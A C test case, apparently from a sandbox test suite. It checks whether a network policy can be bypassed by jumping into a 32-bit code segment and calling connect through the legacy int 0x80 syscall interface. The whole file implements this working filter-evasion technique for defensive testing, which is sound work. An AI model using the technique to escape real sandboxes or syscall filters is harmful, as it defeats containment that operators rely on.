// escape: jumps into a 32-bit segment, where int 0x80 is at home, and connects from there
// group: second ABIs
// policy: network
// neighbour: connect_tcp --neighbour
#include "i386.h"

enum { kCode32 = 0x23, kCode64 = 0x33 };  // __USER32_CS, __USER_CS

static struct {
  uint32_t offset;
  uint16_t segment;
} __attribute__((packed)) far_pointer;
static uint64_t stack_pointer __attribute__((used));
extern char came_back[];

__attribute__((noinline, noclone)) static int call_from_32_bit(long number, long first, long second,
                                                               long third) {
  int result;
  __asm__ volatile(
      "movq %%rsp, stack_pointer(%%rip)\n"
      "ljmpl *(%[target])\n"
      "came_back:\n"
      "movq stack_pointer(%%rip), %%rsp\n"
      : "=a"(result)
      : "a"(number), "b"(first), "c"(second), "d"(third), [target] "D"(&far_pointer)
      : "memory", "rsi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15");
  return result;
}

static void attack(void) {
  const struct sockaddr_in to = stranger();
  unsigned char* page = low_page();
  memcpy(page, &to, sizeof to);
  unsigned char* code = page + 512;
  memcpy(code, "\xcd\x80\xea", 3);  // int 0x80; ljmp segment:offset
  const uint32_t back = low(came_back);
  const uint16_t back_segment = kCode64;
  memcpy(code + 3, &back, 4);
  memcpy(code + 7, &back_segment, 2);
  far_pointer.offset = low(code);
  far_pointer.segment = kCode32;
  const int result = call_from_32_bit(kI386Connect, tcp(AF_INET), low(page), sizeof to);
  if (result < 0) held("connect: %s", strerror(-result));
}
